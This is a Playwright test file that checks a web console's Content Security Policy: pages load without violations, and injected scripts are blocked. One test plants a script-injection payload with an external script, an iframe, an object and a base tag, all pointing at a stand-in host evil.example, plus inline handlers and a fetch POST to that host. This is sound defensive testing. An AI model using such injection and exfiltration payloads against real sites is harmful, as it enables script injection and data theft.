"""The screens work under their content policy, and a script that got into a page does not."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from console.navigation import ADDRESSES
from tests.e2e.screens import SOME, upload
from tests.support.demo import Demo

pytestmark = pytest.mark.browser

PLANTED = """() => {
  window.broken = []
  document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective))
  const plant = (name, values) => document.body.append(Object.assign(document.createElement(name), values))
  plant("script", {textContent: "window.planted = 1"})
  plant("script", {src: "https://evil.example/x.js"})
  plant("iframe", {src: "https://evil.example/"})
  plant("object", {data: "https://evil.example/x.swf"})
  plant("base", {href: "https://evil.example/"})
  plant("div", {innerHTML: "<img src='data:,x' onerror='window.planted = 2'>"})
  setTimeout("window.planted = 3", 0)
  fetch("https://evil.example/", {method: "POST", mode: "no-cors", body: "x"}).catch(() => {})
}"""
BROKEN = {"base-uri", "connect-src", "frame-src", "object-src", "script-src", "script-src-attr", "script-src-elem"}


@pytest.fixture
def complaints(page: Page) -> list[str]:
    """Return what the browser's console says of the policy, and is going to say."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if "Content Security" in message.text else None)
    return said


def test_no_screen_asks_for_what_the_policy_forbids(whole: Demo, page: Page, complaints: list[str]) -> None:
    job_id = whole.upload(SOME)
    whole.ended(job_id)
    for name in ADDRESSES.values():
        page.goto(f"{whole.url}/{name}?job_id={job_id}")
        expect(page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning")
        if name == "wall":
            page.wait_for_function("() => window.frames[0]?.webpackJsonpstreamlit_component_template")
        elif name == "batch":
            expect(page.get_by_test_id("stVegaLiteChart").locator("canvas, svg").first).to_be_visible()
    page.keyboard.press("?")
    expect(page.get_by_text("Pause or resume")).to_be_visible()
    assert complaints == []


def test_covers_and_uploads_pass_the_policy(whole: Demo, page: Page, complaints: list[str]) -> None:
    page.goto(f"{whole.url}/new")
    upload(page, "rows.txt", SOME)
    expect(page.get_by_role("button", name="Start")).to_be_visible()
    job_id = whole.upload(SOME)
    whole.ended(job_id)
    with page.expect_response("**/coverart/**") as picture:
        page.goto(f"{whole.url}/batch?job_id={job_id}")
    assert picture.value.ok
    assert complaints == []


def test_a_script_that_got_into_a_page_runs_and_sends_nothing(whole: Demo, page: Page) -> None:
    page.goto(f"{whole.url}/system")
    expect(page.get_by_text("Services").first).to_be_visible()
    page.evaluate(PLANTED)
    page.wait_for_function("(all) => all.every((directive) => window.broken.includes(directive))", arg=sorted(BROKEN))
    assert page.evaluate("window.planted") is None
